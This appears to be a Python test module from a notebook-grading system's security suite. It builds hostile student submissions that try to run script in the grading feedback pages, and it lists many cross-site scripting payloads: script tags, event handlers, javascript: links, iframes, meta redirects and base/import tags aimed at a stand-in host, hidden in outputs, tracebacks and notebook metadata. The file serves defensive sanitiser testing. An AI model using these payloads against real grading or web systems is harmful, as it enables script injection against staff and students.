# ruff: noqa: E501 (a cell's line is easier to read whole)
"""Browser: outputs and texts that run where a grader or a student reads them.

`pages` finds what would run in the feedback page and in the outputs that Formgrader shows; the
tests in tests/browser open both in Chromium.
"""

from collections.abc import Callable, Iterator

from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell, new_raw_cell

from tests.grading.attacks.evasion import HEADS
from tests.grading.attacks.table import Entry, attack, handed_in, named, right
from tests.grading.made import edited

HTML = {
    "a script": "<script>pwned()</script>",
    "a script from elsewhere": "<script src='//pwned.example/x.js'></script>",
    "a picture that fails": "<img src=x onerror='pwned()'>",
    "a drawing that loads": "<svg onload='pwned()'><circle r='9'/></svg>",
    "a script in a drawing": "<svg><script>pwned()</script></svg>",
    "a link that runs": "<a href='javascript:pwned()'>points</a>",
    "a link that runs, with a tab in its name": "<a href='java\tscript:pwned()'>points</a>",
    "a frame with a document": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "a frame of data": "<iframe src='data:text/html,<script>pwned()</script>'></iframe>",
    "an object": "<object data='javascript:pwned()'></object>",
    "a form that leads elsewhere": "<form action='//pwned.example'><button>Next</button></form>",
    "a page that moves on": "<meta http-equiv='refresh' content='0;url=//pwned.example'>",
    "another base": "<base href='//pwned.example/'>",
    "a style from elsewhere": "<style>@import '//pwned.example/x.css';</style>",
    "a style that covers the page": "<style>body::before { content: 'pwned 5/5'; position: fixed; inset: 0 }</style>",
    "details that open": "<details open ontoggle='pwned()'>x</details>",
    "a field that takes the focus": "<input autofocus onfocus='pwned()'>",
    "an element that is cut off": "<img src=x onerror='pwned()' ",
    "a script in mathematics": "<math><mtext><script>pwned()</script></mtext></math>",
    "a template": "<template><img src=x onerror='pwned()'></template><img src=x onerror=pwned()>",
}
"""What each displays as HTML, as Markdown, and in a Markdown cell."""

OTHER = {
    "JavaScript": "{'application/javascript': 'pwned()'}",
    "JavaScript as text": "{'text/javascript': 'pwned()'}",
    "a drawing with a script": "{'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\"><script>pwned()</script></svg>'}",
    "LaTeX with a script": "{'text/latex': '$x$<script>pwned()</script>'}",
    "a list of pieces of HTML": "{'text/html': ['<scr', 'ipt>pwned()</script>']}",
    "a picture that ends its own tag": "{'image/png': 'x\"><script>pwned()</script>'}",
}
"""Expressions of other kinds of output."""

RAISED = "class Mine(Exception):\n    def _render_traceback_(self): return ['<script>pwned()</script>']\nraise Mine('<script>pwned()</script>')"
NAMED = "raise type('<img src=x onerror=pwned()>', (Exception,), {})('<script>pwned()</script>')"
UPDATED = """from IPython.display import HTML, display
handle = display(1, display_id=True)
handle.update(HTML('<script>pwned()</script>'))"""
WIDGET = "import ipywidgets\nipywidgets.HTML('<img src=x onerror=pwned()>')"
RESULT = """class Shown:
    def _repr_html_(self): return '<script>pwned()</script>'
Shown()"""
PRINTED = (
    "print('\\x1b[31m<script>pwned()</script>\\x1b]8;;javascript:pwned()\\x07points\\x1b]8;;\\x07')"
)


TOGETHER = 8
"""How many displays are handed in as one."""


def _payload(road: str, text: str) -> str:
    """Return a text in which everything that runs says the name of its road."""
    return text.replace("pwned", f"pwned_{named(road)}")


def _shows(road: str, code: str, within: str = "") -> Entry:
    make = handed_in("box_area", right("box_area"), _payload(road, code))
    return Entry("browser", road, make, "sanitiser", deserves=10, within=within)


def _displays() -> Iterator[Entry]:
    html = (
        "from IPython.display import HTML, Markdown, display\ndisplay(HTML({0!r}), Markdown({0!r}))"
    )
    other = "from IPython.display import display\ndisplay({}, raw=True)"
    codes = {
        **{what: html.format(text) for what, text in HTML.items()},
        **{what: other.format(data) for what, data in OTHER.items()},
    }
    for place, (what, code) in enumerate(codes.items()):
        yield _shows(f"displays {what}", code, f"displays_{place // TOGETHER}")


def _edits(road: str, change: Callable[[NotebookNode, str], object], text: str) -> Entry:
    make = edited(lambda notebook: change(notebook, _payload(road, text)))
    return Entry("browser", road, make, "sanitiser", deserves=10)


def _words(notebook: NotebookNode, text: str) -> None:
    notebook.cells.append(new_markdown_cell(text))


def _raw(notebook: NotebookNode, text: str) -> None:
    notebook.cells.append(new_raw_cell(text, metadata={"format": "text/html"}))


def _metadata(notebook: NotebookNode, text: str) -> None:
    notebook.metadata.update(title=text, authors=[{"name": text}])
    notebook.metadata.language_info = {"name": text, "pygments_lexer": text, "mimetype": text}


def _of_cells(notebook: NotebookNode, text: str) -> None:
    for each in notebook.cells[:2]:
        each.metadata.update(tags=[text], name=text)


def _quoted(road: str, answer: str) -> Entry:
    """Return the attack of a wrong answer that a check would quote."""
    return attack("browser", road, "sanitiser", "box_area", _payload(f"{road} (box_area)", answer))


TEXTS = "\n\n".join(HTML.values())
LINKS = (
    "[points](javascript:pwned())\n\n![x](x 'x\" onerror=\"pwned()')\n\n<javascript:pwned()>\n\n"
    "[y][x]\n\n[x]: javascript:pwned()"
)
MATHEMATICS = "$\\href{javascript:pwned()}{5/5}$ $$\\unicode{<script>pwned()</script>}$$"
SCRIPT = "<script>pwned()</script>"
AREA = HEADS["box_area"]

ENTRIES = [
    *_displays(),
    _shows("raises an error that is a script", RAISED),
    _shows("raises an error whose name is a picture", NAMED),
    _shows("prints a script, in colours", PRINTED),
    _shows("updates a display with a script", UPDATED),
    _shows("shows a widget of HTML", WIDGET),
    _shows("gives a result that shows itself as a script", RESULT),
    _edits("writes all of it into a Markdown cell", _words, TEXTS),
    _edits("writes links that run into a Markdown cell", _words, LINKS),
    _edits("writes mathematics that leads elsewhere", _words, MATHEMATICS),
    _edits("writes a raw cell of HTML", _raw, TEXTS),
    _edits("writes a script into the metadata of the notebook", _metadata, f"</title>{SCRIPT}"),
    _edits("writes a script into the metadata of cells", _of_cells, f"'>{SCRIPT}"),
    _quoted("returns a script", f"{AREA}return {SCRIPT!r}"),
    _quoted("raises a script", f"{AREA}raise ValueError({SCRIPT!r})"),
    _quoted("has a script in the line that fails", f"{AREA}raise ValueError  # {SCRIPT}"),
]
